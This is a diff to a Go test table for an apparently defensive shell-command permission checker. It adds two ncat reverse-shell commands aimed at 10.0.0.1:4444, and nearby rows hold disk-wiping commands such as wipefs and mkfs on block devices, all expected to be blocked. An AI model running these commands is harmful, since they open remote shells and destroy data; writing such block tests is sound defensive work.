@@ -49,6 +49,8 @@ func TestLead62SystemSpellings(t *testing.T) {
 		{`mkfs.ext4 /dev/rbd0`, dsl.Block, dsl.Block},
 		{`wipefs --a /dev/sda`, dsl.Block, dsl.Block},
 		{`sudo --sh`, dsl.Allow, dsl.Ask},
+		{`ncat --ex /bin/bash 10.0.0.1 4444`, dsl.Block, dsl.Block},
+		{`ncat --sh-e bash 10.0.0.1 4444`, dsl.Block, dsl.Block},
 		{`zpool create -f tank mirror sdb sdc`, dsl.Block, dsl.Block},
 		// reads, listings, memory devices, image files, a project's own words
 		{`cd /etc && sudo vim hosts`, dsl.Allow, dsl.Allow},
